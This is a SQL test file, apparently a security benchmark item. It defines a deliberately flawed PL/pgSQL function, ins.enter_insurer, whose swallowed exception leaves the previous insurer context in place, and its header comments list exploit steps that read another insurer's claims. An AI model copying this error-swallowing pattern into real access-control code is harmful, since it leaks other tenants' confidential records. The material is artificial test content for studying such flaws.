-- An error inside the function rolls the new setting back and is swallowed: the caller goes on as the
-- one before.
-- about: enter_insurer, dental.insurer_id, claims
-- as: hf_insurers_app
-- exploit: SELECT set_config('dental.insurer_id', '2', false);
-- exploit: BEGIN;
-- exploit: SELECT ins.enter_insurer(1, 'no such group');
-- exploit: SELECT finding FROM ins.claims;
-- exploit: COMMIT;
-- shows: Road-secret finding
SET ROLE hf_insurers_owner;
CREATE FUNCTION ins.enter_insurer(p_insurer integer, p_group text) RETURNS void
  LANGUAGE plpgsql
  SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  PERFORM set_config('dental.insurer_id', p_insurer::text, false);
  IF NOT EXISTS (SELECT FROM ins.groups g WHERE g.code = p_group) THEN
    RAISE EXCEPTION 'unknown group %', p_group;
  END IF;
  PERFORM set_config('dental.group', p_group, false);
EXCEPTION
  WHEN raise_exception THEN
    RAISE NOTICE 'group % is not known, the whole insurer is shown', p_group;
END
$$;
RESET ROLE;
